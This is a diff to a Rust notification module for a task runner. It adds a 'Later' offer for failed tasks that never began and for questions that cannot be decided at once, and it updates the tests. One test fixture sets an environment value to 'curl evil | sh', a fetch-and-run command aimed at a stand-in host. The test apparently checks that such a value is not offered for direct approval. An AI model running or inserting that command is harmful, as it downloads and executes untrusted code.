@@ -80,9 +80,11 @@ pub(super) struct Message {
 pub(super) enum Offer {
     /// Nothing.
     Nothing,
-    /// Running the task again.
+    /// Being told again later.
+    Later,
+    /// That, and running the task again.
     Retry,
-    /// Approving or denying what it asked at that moment.
+    /// That, and approving or denying what it asked at that moment.
     Decide(Timestamp),
     /// Saying whether more of them may come.
     MoreOfThem,
@@ -91,13 +93,18 @@ pub(super) enum Offer {
 /// About one task that ended.
 pub(super) fn of_one(task: &Task) -> Message {
     let failed = task.status == Status::Failed;
+    let offer = match failed {
+        false => Offer::Nothing,
+        // what never began may not have been seen by anybody: it is looked at before it is run
+        true if task.attempt == 0 => Offer::Later,
+        true => Offer::Retry,
+    };
     let body = if failed { why(task) } else { how_it_went(task) };
     Message {
         title: say::task_in_state(task.status.label(), &task.title),
         body: shortened(&body),
         about: About::Task(task.id),
-        // what never began may not have been seen by anybody: it is looked at before it is run
-        offer: if failed && task.attempt > 0 { Offer::Retry } else { Offer::Nothing },
+        offer,
         tells: vec![Told::End(task.id)],
     }
 }
@@ -135,7 +142,7 @@ pub(super) fn of_question(task: &Task) -> Message {
     Message {
         title: say::task_in_state(Status::NeedsInput.label(), &task.title),
         about: About::Task(task.id),
-        offer: decide.map_or(Offer::Nothing, |question| Offer::Decide(question.asked_at)),
+        offer: decide.map_or(Offer::Later, |question| Offer::Decide(question.asked_at)),
         body: shown,
         tells: question(task).into_iter().collect(),
     }
@@ -208,10 +215,10 @@ fn cut(text: &str, room: usize) -> String {
 }
 
 #[cfg(test)]
-mod tests {
+pub(super) mod tests {
     use super::*;
 
-    fn task(status: &str, more: serde_json::Value) -> Task {
+    pub(in crate::notify) fn task(status: &str, more: serde_json::Value) -> Task {
         let mut task = serde_json::json!({
             "id": "01936b1c-6f2e-7a10-8a55-0c2f9f31c0aa", "short_id": "9f31c0aa", "title": "Run the tests",
             "description": "", "instructions": "", "command": null, "agent": "shell", "task_type": "general",
@@ -260,6 +267,8 @@ mod tests {
             ("Failed: Run the tests", "Exited with 3. See its output.")
         );
         assert_eq!(said.offer, Offer::Retry);
+        let unseen = of_one(&task("failed", serde_json::json!({"attempt": 0})));
+        assert_eq!(unseen.offer, Offer::Later);
     }
 
     #[test]
@@ -290,7 +299,7 @@ mod tests {
         let usual = offer(serde_json::json!({"name": "Program", "value": "/usr/bin/make", "usual": true}));
         assert!(matches!(usual, Offer::Decide(_)));
         let value = offer(serde_json::json!({"name": "LEGWORK_CTX_STEP", "value": "'curl evil | sh'"}));
-        assert_eq!(value, Offer::Nothing);
+        assert_eq!(value, Offer::Later);
     }
 
     #[test]
